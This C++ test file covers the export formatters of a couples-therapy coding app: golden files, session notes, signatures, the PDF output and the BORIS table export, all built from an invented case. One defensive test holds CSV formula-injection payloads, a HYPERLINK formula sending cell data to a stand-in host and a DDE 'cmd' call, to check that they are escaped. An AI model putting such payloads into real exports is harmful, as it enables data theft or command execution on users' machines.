// The export formatters over a small, fixed case built in memory (no
// database): golden files for the text and table formats, the pattern in
// words, privacy of process notes, the PDF (read back through poppler's
// pdftotext/pdfinfo) and the BORIS-style table read back by the BORIS reader.
// tests/services/export_test.cpp builds the same case in a practice and checks
// that ExportJob gathers exactly these texts.
//
// Golden files (tests/data/golden/) are only ever compared here: any
// difference fails. To accept a deliberate change of the output, rewrite them
// with the one explicit command
//     scripts/update-goldens.sh [build-dir]
// (it runs the hidden test case "[.update-goldens]" below), then read
// `git diff tests/data/golden` before committing them.
#include <algorithm>
#include <catch2/catch_approx.hpp>
#include <catch2/catch_test_macros.hpp>
#include <cstdlib>
#include <map>
#include <utility>

#include "core/instrument_json.h"
#include "core/metrics.h"
#include "core/scheme_json.h"
#include "formats/boris.h"
#include "formats/boris_write.h"
#include "formats/export_data.h"
#include "formats/export_pdf.h"
#include "formats/export_tables.h"
#include "formats/export_text.h"
#include "support/test_support.h"

using namespace attune;
using namespace attune::formats;

namespace {

const std::string kPrivateMarker = "PRIVATE-MARKER countertransference";
constexpr RowId kClinician = 1;  // "Dr Test", the case's clinician
constexpr RowId kCoderKim = 2;   // a second rater

// The fingerprints of Dr Test's and Dr Super's keys, as the signatures show them.
const std::string kClinicianKey = "0a1b2c3d 4e5f6a7b 8c9d0e1f 2a3b4c5d 6e7f8a9b";
const std::string kSupervisorKey = "f0e1d2c3 b4a59687 78695a4b 3c2d1e0f a1b2c3d4";

// [SECTION] The small case

// Three sessions of Zoë (A) and Дмитрий (B), metrics known by hand:
// S1: A defensive anger at 10 s and B shut down 20-80 s, both repaired by A's
//     reflection at 40 s (30 s and 20 s); A->B sequence; B's signal at 100 s
//     answered by A's validation at 130 s. 2 ruptures / 50 min = 0.4 per 10 min.
// S2: A defensive anger 60 s, A blame shift 100 s, B withdraws 120 s (A->B);
//     B's I-statement at 300 s is too late to repair any: repair rate 0 %.
// S3: A's signal at 50 s answered by B's reassurance at 70 s; B low warmth at
//     200 s repaired by A at 230 s; a deleted observation and a second rater's
//     observation that the clinician's metrics ignore.
// S1 is signed by Dr Test and co-signed by Dr Super, S2 signed, S3 not; the
// times and fingerprints are placeholders that tests/services/export_test.cpp
// replaces with those of the signatures it makes.
struct SmallCase {
    CodingScheme scheme = parse_scheme_json(test::read_file(test::assets_dir() / "coding_scheme.json"));
    Case info;
    std::vector<Session> sessions;
    std::vector<Observation> observations;  // every rater's, the deleted one too
    std::map<RowId, std::string> raters{{kClinician, "Dr Test"}, {kCoderKim, "Coder Kim"}};
    std::map<std::size_t, std::vector<HomeworkItem>> homework;     // by session index
    std::map<std::size_t, std::vector<SignatureLine>> signatures;  // by session index; none: not signed
    ProgressNote third_note{"Zoë described a calmer week; Дмитрий stayed in the room during a hard talk.",
                            "First signs of withdrawer re-engagement.",
                            "Heighten Дмитрий's reaching; keep the pause word."};

    SmallCase() {
        info.id = 1;
        info.label = "C-017";
        info.clinician_id = kClinician;
        info.clinician_name = "Dr Test";
        info.partner_a = {Who::A, "Zoë", "anxious", ""};
        info.partner_b = {Who::B, "Дмитрий", "avoidant", ""};
        info.start_date = "2026-03-02";
        info.goals = "Fewer escalations at home; Дмитрий to stay present when Zoë is upset.";
        const char* dates[] = {"2026-03-02", "2026-03-09", "2026-03-16"};
        const double lengths[] = {3000, 3000, 2400};
        const int stages[] = {1, 1, 2};
        const int steps[] = {2, 3, 5};
        for (int i = 0; i < 3; ++i) {
            Session s;
            s.id = 10 + i;
            s.case_id = info.id;
            s.number = i + 1;
            s.date = dates[i];
            s.start_time = "18:00";
            s.active_seconds = lengths[i];
            s.state = SessionState::Ended;
            s.eft_stage = stages[i];
            s.eft_step = steps[i];
            sessions.push_back(s);
        }
        sessions[2].ratings = Ratings{6, 5, 7};
        struct Obs {
            std::size_t session;
            Who who;
            const char* code;
            double t;
            std::optional<double> stop;
            const char* comment;
            RowId rater = kClinician;
            bool deleted = false;
        };
        const std::vector<Obs> all = {
            {0, Who::A, "defensive_anger", 10, {}, ""},
            {0, Who::B, "shut_down", 20, 80.0, "turned to the window"},
            {0, Who::A, "reflect", 40, {}, ""},
            {0, Who::B, "msg_disconnect", 100, {}, "\"I feel alone here\""},
            {0, Who::A, "validate", 130, {}, ""},
            {0, Who::Therapist, "t_conjecture", 150, {}, ""},
            {1, Who::A, "defensive_anger", 60, {}, ""},
            {1, Who::A, "blame_shift", 100, {}, "He said \"fine\", then left"},
            {1, Who::B, "withdraw_emotion", 120, {}, ""},
            {1, Who::B, "i_statement", 300, {}, ""},
            {2, Who::A, "msg_unworthy", 50, {}, ""},
            {2, Who::B, "reassure", 70, {}, ""},
            {2, Who::B, "low_warmth", 200, {}, ""},
            {2, Who::A, "validate", 230, {}, ""},
            {2, Who::Both, "slow_down", 400, {}, "both breathe"},
            {2, Who::A, "blame_shift", 500, {}, "", kCoderKim},
            {2, Who::A, "angry_dominance", 600, {}, "", kClinician, true},
        };
        for (const Obs& o : all) {
            Observation obs;
            obs.id = static_cast<RowId>(observations.size() + 100);
            obs.session_id = sessions[o.session].id;
            obs.rater_id = o.rater;
            obs.who = o.who;
            obs.code_id = o.code;
            obs.t = o.t;
            obs.stop = o.stop;
            obs.kind = o.stop ? EventKind::State : EventKind::Point;
            obs.comment = o.comment;
            obs.deleted = o.deleted;
            observations.push_back(obs);
        }
        homework[1] = {{"weekly check-in", true}, {"date night", false}};
        homework[2] = {{"daily appreciation", std::nullopt}};
        signatures[0] = {{false, "Dr Test", "2026-03-02T20:00:00Z", true, kClinicianKey, ""},
                         {true, "Dr Super", "2026-03-03T09:30:00Z", true, kSupervisorKey, ""}};
        signatures[1] = {{false, "Dr Test", "2026-03-09T20:00:00Z", true, kClinicianKey, ""}};
    }

    // Not deleted, in time order; only `rater`'s when given.
    std::vector<Observation> of_session(std::size_t index, std::optional<RowId> rater) const {
        std::vector<Observation> out;
        for (const Observation& o : observations)
            if (o.session_id == sessions[index].id && !o.deleted && (!rater || o.rater_id == *rater)) out.push_back(o);
        std::stable_sort(out.begin(), out.end(), [](const auto& a, const auto& b) { return a.t < b.t; });
        return out;
    }

    SessionMetrics metrics_of(std::size_t index) const {
        return compute_session_metrics(of_session(index, kClinician), scheme, sessions[index].active_seconds,
                                       MetricSettings{});
    }

    SessionNoteData note(std::size_t index, bool include_private) const {
        SessionNoteData data;
        data.info = info;
        data.session = sessions[index];
        if (index == 2) data.note = third_note;
        if (index == 2 && include_private) data.process_note = kPrivateMarker;
        if (auto agreed = homework.find(index); agreed != homework.end()) data.homework_agreed = agreed->second;
        if (index > 0) {
            data.previous_session_number = sessions[index - 1].number;
            if (auto before = homework.find(index - 1); before != homework.end())
                data.homework_follow_up = before->second;
        }
        data.scheme = scheme;
        data.observations = of_session(index, kClinician);
        data.metrics = metrics_of(index);
        if (auto found = signatures.find(index); found != signatures.end()) data.sign_off.signatures = found->second;
        return data;
    }

    CaseSummaryData summary() const {
        CaseSummaryData data;
        data.case_metrics.info = info;
        std::vector<SessionMetrics> series;
        for (std::size_t i = 0; i < sessions.size(); ++i) {
            series.push_back(metrics_of(i));
            SessionWithMetrics row;  // counts toward trends (SessionCounting's default)
            row.session = sessions[i];
            row.metrics = series.back();
            data.case_metrics.sessions.push_back(row);
        }
        data.case_metrics.trends = compute_trends(series);
        // Homework of session 2 is due (1 done, 1 not); that of session 3, the latest, is not due yet.
        data.homework_agreed = 2;
        data.homework_done = 1;
        data.homework_not_done = 1;
        data.homework_not_due = 1;
        data.latest_session_number = 3;
        for (std::size_t i = 0; i < sessions.size(); ++i) {
            auto found = signatures.find(i);
            data.sign_offs.push_back({sessions[i].number, sessions[i].date,
                                      found != signatures.end() ? found->second : std::vector<SignatureLine>{}, {}});
        }
        add_process_detail(data.case_metrics);
        add_measures(data.case_metrics);
        return data;
    }

    // What the BORIS exports get: every session, each rater's layer, the clinician's first.
    BorisExportData boris() const {
        BorisExportData data;
        data.info = info;
        data.scheme = scheme;
        data.exported_at = "2026-03-20T09:00:00Z";
        for (std::size_t i = 0; i < sessions.size(); ++i) {
            BorisSession session;
            session.session = sessions[i];
            for (RowId rater : {kClinician, kCoderKim}) {
                const std::vector<Observation> coded = of_session(i, rater);
                if (!coded.empty()) session.layers.push_back({raters.at(rater), coded});
            }
            data.sessions.push_back(std::move(session));
        }
        return data;
    }

    // Version 2, worked by hand over the clinician's layer (C = 60 s, R = 120 s):
    // A pursues (defensive anger, blame shift) and B withdraws (shut down,
    // withdraws) from session 1 on. Session 3: A's msg_unworthy at 50 s met by
    // B's reassurance at 70 s is a blamer softening candidate, which the
    // therapist confirmed; sessions 1 and 2 have none (B's signal in session 1
    // is not one the rules look for). Lag 1 pooled, A->B: of A's 7
    // antecedents, reactivity (3) -> B's withdrawal every time (10 -> 20,
    // 60 -> 120 at exactly t + C, 100 -> 120): a 3, b 0, c 0, d 4, Q 1,
    // z = (3 - 9/7) / sqrt(9/7 * 4/7 * 4/7) = sqrt(7) = 2.65; attachment (1)
    // -> B's repair (1): z = sqrt(7) too; repair (3) -> withdrawal never:
    // a 0, b 3, c 3, d 1, Q -1, z = -(9/7) / 0.648 = -1.98.
    void add_process_detail(CaseMetrics& m) const {
        CycleRoles roles;
        std::vector<SequenceAnalysis> all;
        for (std::size_t i = 0; i < sessions.size(); ++i) {
            const std::vector<Observation> layer = of_session(i, kClinician);
            roles = combine_cycle_roles(roles, find_cycle_roles(layer, scheme));
            SessionWithMetrics& row = m.sessions[i];
            row.sequences = compute_sequences(layer, scheme, MetricSettings{});
            row.change_events = detect_change_events(layer, scheme, roles, MetricSettings{});
            for (const ChangeEventCandidate& c : row.change_events.candidates)
                row.decisions.push_back({c.key(), CandidateDecision::Confirmed, "Dr Test", "2026-03-16T19:00:00Z"});
            row.confirmed = confirmed_change_events(row.change_events, row.decisions);
            all.push_back(row.sequences);
        }
        m.pooled_sequences = pool_sequences(all);
        m.has_process_detail = true;
    }

    // Zoë's ORS (a direct total, then items), SRS and Дмитрий's CSI-4 and a
    // check-in with a missing item (no total), in the order they were entered.
    static std::vector<Measure> measures() {
        auto make = [](RowId id, Who who, const char* instrument, const char* date,
                       std::vector<std::optional<double>> items, std::optional<double> total = std::nullopt,
                       std::optional<int> session = std::nullopt) {
            Measure m;
            m.id = id;
            m.partner = who;
            m.instrument_id = instrument;
            m.date = date;
            m.items = std::move(items);
            m.entered_total = total;
            m.session_number = session;
            return m;
        };
        return {make(1, Who::A, "ors", "2026-03-02", {}, 19.5, 1),
                make(2, Who::B, "csi4", "2026-03-02", {2, 2, 2, 2}, std::nullopt, 1),
                make(3, Who::B, "checkin", "2026-03-09", {3, 2, std::nullopt, 3, 4}, std::nullopt, 2),
                make(4, Who::A, "ors", "2026-03-16", {6.1, 5, 6, 7}, std::nullopt, 3),
                make(5, Who::B, "csi4", "2026-03-16", {4, 3, 3, 4}, std::nullopt, 3),
                make(6, Who::A, "srs", "2026-03-16", {9, 9, 8.5, 9}, std::nullopt, 3)};
    }

    void add_measures(CaseMetrics& m) const {
        InstrumentCatalog catalog;
        for (const char* id : {"csi4", "csi16", "ors", "srs", "checkin"})
            catalog.add(parse_instrument_json(
                test::read_file(test::assets_dir() / "instruments" / (std::string(id) + ".json"))));
        m.measures.administrations = in_date_order(measures());
        for (const Instrument& in : catalog.all())
            for (const Measure& measure : m.measures.administrations)
                if (measure.instrument_id == in.id) {
                    m.measures.instruments.push_back(in);
                    break;
                }
        m.measures.summaries = summarize_measures(m.measures.administrations, catalog);
    }

    // Every session's observations (only the clinician's, or every rater's), as a data export lists them.
    ObservationExportData rows(bool clinician_only) const {
        ObservationExportData data;
        data.info = info;
        for (std::size_t i = 0; i < sessions.size(); ++i) {
            const Session& s = sessions[i];
            for (const Observation& o : of_session(i, clinician_only ? std::optional(kClinician) : std::nullopt)) {
                ObservationRow row;
                row.case_label = info.label;
                row.session_number = s.number;
                row.session_date = s.date;
                row.session_start_time = s.start_time;
                row.session_active_seconds = s.active_seconds;
                row.t = o.t;
                row.stop = o.stop;
                row.kind = o.kind;
                row.who = o.who;
                row.who_name = o.who == Who::A           ? info.partner_a.display_name
                               : o.who == Who::B         ? info.partner_b.display_name
                               : o.who == Who::Therapist ? "Therapist"
                                                         : "";
                const Code* code = scheme.find(o.code_id);
                REQUIRE(code);
                row.code_id = code->id;
                row.code_label = code->label;
                row.category_id = code->category;
                row.category_label = scheme.find_category(code->category)->label;
                row.polarity = code->polarity;
                row.comment = o.comment;
                row.rater = raters.at(o.rater_id);
                data.rows.push_back(row);
            }
        }
        return data;
    }
};

// [SECTION] Golden files

// Every golden file with the text the formatters make of the small case now.
std::vector<std::pair<std::string, std::string>> golden_outputs() {
    const SmallCase c;
    const SessionNoteData third = c.note(2, false);
    const CaseSummaryData summary = c.summary();
    return {
        {"session_note_dap.txt", format_session_note(third, NoteStyle::Dap, TextFormat::Plain)},
        {"session_note_dap.md", format_session_note(third, NoteStyle::Dap, TextFormat::Markdown)},
        {"session_note_soap.txt", format_session_note(third, NoteStyle::Soap, TextFormat::Plain)},
        {"session_note_s1.txt", format_session_note(c.note(0, false), NoteStyle::Dap, TextFormat::Plain)},
        {"case_summary.md", format_case_summary(summary, TextFormat::Markdown)},
        {"case_summary.txt", format_case_summary(summary, TextFormat::Plain)},
        {"observations.csv", observations_csv(c.rows(false))},
        {"observations.json", observations_json(c.rows(false))},
        {"events_boris.tsv", boris_aggregated_tsv(c.boris())},
        {"metrics.csv", session_metrics_csv(summary)},
        {"measures.csv", measures_csv(summary)},
        {"sequences.csv", sequences_csv(summary)},
    };
}

std::filesystem::path golden_path(const std::string& name) {
    return test::test_data_dir() / "golden" / name;
}

bool contains(const std::string& text, const std::string& part) {
    return text.find(part) != std::string::npos;
}

std::string run_capture(const std::string& command, const std::filesystem::path& out) {
    const int rc = std::system((command + " > '" + out.string() + "' 2>&1").c_str());
    REQUIRE(rc == 0);
    return test::read_file(out);
}

}  // namespace

TEST_CASE("session notes, case summaries and data exports match their golden files", "[export][golden]") {
    for (const auto& [name, actual] : golden_outputs()) {
        INFO("golden file " << golden_path(name).string() << " (scripts/update-goldens.sh rewrites it)");
        REQUIRE(std::filesystem::exists(golden_path(name)));
        CHECK(actual == test::read_file(golden_path(name)));
    }
}

// Hidden: never part of the normal run. scripts/update-goldens.sh runs it.
TEST_CASE("write the golden files from the current output", "[.update-goldens]") {
    std::filesystem::create_directories(golden_path("x").parent_path());
    for (const auto& [name, actual] : golden_outputs()) {
        test::write_file(golden_path(name), actual);
        CHECK(test::read_file(golden_path(name)) == actual);
    }
}

TEST_CASE("the data exports keep the second rater's rows and leave the deleted observation out", "[export]") {
    const SmallCase c;
    const ObservationExportData all = c.rows(false);
    REQUIRE(all.rows.size() == 16);
    const std::string csv = observations_csv(all);
    CHECK(contains(csv, "blame_shift,Shifts blame,reactivity,rupture,,,Coder Kim"));
    CHECK_FALSE(contains(csv, "angry_dominance"));
    // BORIS gets every rater's coding too, each as its own observation.
    const std::string tsv = boris_aggregated_tsv(c.boris());
    CHECK(contains(tsv, "C-017 S3 Coder Kim\t"));
    CHECK_FALSE(contains(tsv, "angry_dominance"));
}

TEST_CASE("a session note describes the pattern in words, never null or nan", "[export]") {
    const SmallCase c;
    const std::string text = format_session_note(c.note(1, false), NoteStyle::Dap, TextFormat::Plain);
    CHECK(contains(text, "Partner A (Zoë): 2 ruptures (defensive anger 1, shifts blame 1), none repaired"));
    CHECK(contains(text, "pursue\xE2\x86\x92withdraw sequences (Zoë pursued, Дмитрий withdrew)"));
    CHECK(contains(text, "repair rate 0 %"));
    for (const char* bad : {"null", "nan", "defensive_anger"})
        CHECK_FALSE(contains(text, bad));
}

TEST_CASE("a signature line says who signed and when, and 'verified' with the key only when it was", "[export]") {
    const std::string dash = " \xE2\x80\x94 ";
    SignatureLine line{false, "Maya Lee", "2026-11-20T18:02:11Z", true, kClinicianKey, ""};
    CHECK(signature_text(line) ==
          "Signed by Maya Lee, 2026-11-20T18:02:11Z" + dash + "verified (key " + kClinicianKey + ")");
    line.cosign = true;
    CHECK(signature_text(line) ==
          "Co-signed by Maya Lee, 2026-11-20T18:02:11Z" + dash + "verified (key " + kClinicianKey + ")");
    // Not verified: the reason, never the word "verified" or a key.
    line = {false, "Maya Lee", "2026-11-20T18:02:11Z", false, "", "changed after signing"};
    CHECK(signature_text(line) == "Signed by Maya Lee, 2026-11-20T18:02:11Z" + dash + "changed after signing");
    line.problem.clear();
    CHECK(signature_text(line) == "Signed by Maya Lee, 2026-11-20T18:02:11Z" + dash + "not verified");
}

TEST_CASE("a session note and a case summary end with each session's signatures as checked", "[export]") {
    const SmallCase c;
    SessionNoteData first = c.note(0, false);
    first.sign_off.signatures[1] = {true, "Dr Super", "2026-03-03T09:30:00Z", false, "", "changed after signing"};
    const std::string note = format_session_note(first, NoteStyle::Dap, TextFormat::Plain);
    CHECK(contains(note, "\nSignatures\n\nSigned by Dr Test, 2026-03-02T20:00:00Z \xE2\x80\x94 verified (key " +
                             kClinicianKey +
                             ").\n\nCo-signed by Dr Super, 2026-03-03T09:30:00Z \xE2\x80\x94 changed "
                             "after signing.\n"));
    CHECK_FALSE(contains(note, kSupervisorKey));
    CHECK(contains(format_session_note(c.note(2, false), NoteStyle::Soap, TextFormat::Markdown),
                   "## Signatures\n\nNot signed.\n"));
    const std::string summary = format_case_summary(c.summary(), TextFormat::Plain);
    CHECK(contains(summary,
                   "- Session 1, 2026-03-02: Co-signed by Dr Super, 2026-03-03T09:30:00Z \xE2\x80\x94 "
                   "verified (key " +
                       kSupervisorKey + ")."));
    CHECK(contains(summary, "- Session 2, 2026-03-09: Signed by Dr Test"));
    CHECK(contains(summary, "- Session 3, 2026-03-16: not signed."));
}

TEST_CASE("csv fields are quoted as RFC 4180 says", "[export]") {
    CHECK(csv_field("plain") == "plain");
    CHECK(csv_field("a,b") == "\"a,b\"");
    CHECK(csv_field("say \"hi\"") == "\"say \"\"hi\"\"\"");
    CHECK(csv_field("two\nlines") == "\"two\nlines\"");
}

TEST_CASE("a cell a spreadsheet would run as a formula is written as text, in CSV and TSV", "[export][hostile]") {
    CHECK(csv_field("=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")") ==
          "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"x\"\")\"");
    CHECK(csv_field("+1+2") == "'+1+2");
    CHECK(csv_field("-2+3") == "'-2+3");
    CHECK(csv_field("@SUM(A1)") == "'@SUM(A1)");
    CHECK(csv_field("\tcmd") == "'\tcmd");
    CHECK(csv_field("\rcmd") == "\"'\rcmd\"");
    // Numbers Attune writes, and text with a sign inside, stay as they are.
    CHECK(csv_field("-0.25") == "-0.25");
    CHECK(csv_field("12") == "12");
    CHECK(csv_field("a=b") == "a=b");
    CHECK(csv_field("-") == "'-");

    const SmallCase c;
    ObservationExportData data = c.rows(false);
    REQUIRE_FALSE(data.rows.empty());
    data.rows.front().comment = "=cmd|' /C calc'!A0";
    data.rows.front().who_name = "@Ana";
    CHECK(contains(observations_csv(data), ",'=cmd|' /C calc'!A0,"));
    CHECK_FALSE(contains(observations_csv(data), ",=cmd"));
    BorisExportData boris = c.boris();
    REQUIRE_FALSE(boris.sessions.front().layers.front().observations.empty());
    boris.sessions.front().layers.front().observations.front().comment = "=cmd|' /C calc'!A0";
    boris.info.partner_a.display_name = "@Ana";
    const std::string tsv = boris_aggregated_tsv(boris);
    CHECK(contains(tsv, "\t'=cmd|' /C calc'!A0"));
    CHECK(contains(tsv, "\t'@Ana\t"));
    CHECK_FALSE(contains(tsv, "\t=cmd"));
}

TEST_CASE("a private process note appears only when the data carries it, clearly marked", "[export][privacy]") {
    const SmallCase c;
    const SessionNoteData without = c.note(2, false);
    for (auto format : {TextFormat::Plain, TextFormat::Markdown}) {
        const std::string text = format_session_note(without, NoteStyle::Dap, format);
        CHECK_FALSE(contains(text, kPrivateMarker));
        CHECK_FALSE(contains(text, "PRIVATE"));
    }
    const std::string text = format_session_note(c.note(2, true), NoteStyle::Soap, TextFormat::Markdown);
    CHECK(contains(text, "## PRIVATE PROCESS NOTE"));
    CHECK(contains(text, kPrivateMarker));
}

TEST_CASE("the case summary PDF has headers, page numbers, UTF-8 names, the trend charts and the right paper",
          "[export][pdf]") {
    const SmallCase c;
    test::TempDir dir;
    const CaseSummaryData summary = c.summary();
    for (const auto& [paper, size] : {std::pair{PaperSize::A4, std::string("595.276 x 841.89 pts")},
                                      std::pair{PaperSize::Letter, std::string("612 x 792 pts")}}) {
        const auto pdf = dir / "summary.pdf";
        test::write_file(pdf, case_summary_pdf(summary, paper));
        const std::string text = run_capture("pdftotext -enc UTF-8 '" + pdf.string() + "' -", dir / "text.txt");
        CHECK(contains(text, "C-017"));
        CHECK(contains(text, "Page 1 of"));
        CHECK(contains(text, "Zoë"));
        CHECK(contains(text, "Дмитрий"));
        // Every chart of the trends view, by its title (core/trend_charts.h).
        for (const ChartSpec& chart : case_summary_charts(summary)) {
            INFO(chart.title);
            CHECK(contains(text, chart.title));
        }
        // The measure charts' furniture (the clinical band's label, the cut-off line's) and the version-2 text.
        CHECK(contains(text, "clinical range"));
        CHECK(contains(text, "cut-off 25"));
        CHECK(contains(text, "Couple-reported measures"));
        CHECK(contains(text, "blamer softening, Zoë (A) msg unworthy at 00:50"));
        CHECK_FALSE(contains(text, "PRIVATE"));
        CHECK(contains(text, "Signatures"));
        CHECK(contains(text, "Session 3, 2026-03-16: not signed."));
        const std::string info = run_capture("pdfinfo '" + pdf.string() + "'", dir / "info.txt");
        CHECK(contains(info, size));
        REQUIRE(contains(info, "Pages:"));
        const std::string pages = info.substr(info.find("Pages:") + 6, 20);
        CHECK(contains(text, "of " + std::to_string(std::stoi(pages))));
    }
}

TEST_CASE("BORIS's table reads back through the BORIS reader unchanged, layer by layer", "[export][boris]") {
    const SmallCase c;
    const BorisExportData exported = c.boris();
    test::TempDir dir;
    const auto tsv = dir / "events.tsv";
    test::write_file(tsv, boris_aggregated_tsv(exported));
    BorisPlanOptions options;
    options.names = {"Zoë", "Дмитрий", "Therapist"};
    const ImportPlan plan = plan_boris_import(parse_boris_file(tsv), c.scheme, options);
    REQUIRE(plan.sessions.size() == 3);
    REQUIRE(plan.skipped.empty());
    for (std::size_t i = 0; i < 3; ++i) {
        const PlannedSession& s = plan.sessions[i];
        CHECK(s.start_time == "18:00");
        CHECK(s.date == exported.sessions[i].session.date);
        CHECK(s.active_seconds == Catch::Approx(exported.sessions[i].session.active_seconds));
        REQUIRE(s.layers.size() == exported.sessions[i].layers.size());
        for (std::size_t k = 0; k < s.layers.size(); ++k) {
            const BorisLayer& sent = exported.sessions[i].layers[k];
            const PlannedLayer& back = s.layers[k];
            CHECK(back.rater == sent.rater);
            REQUIRE(back.observations.size() == sent.observations.size());
            for (std::size_t j = 0; j < sent.observations.size(); ++j) {
                INFO("session " << i + 1 << " layer " << k << " row " << j);
                const Observation& a = sent.observations[j];
                const Observation& b = back.observations[j].observation;
                CHECK(b.who == a.who);
                CHECK(b.code_id == a.code_id);
                CHECK(b.t == Catch::Approx(a.t));
                CHECK(b.stop == a.stop);
                CHECK(b.comment == a.comment);
            }
        }
    }
}
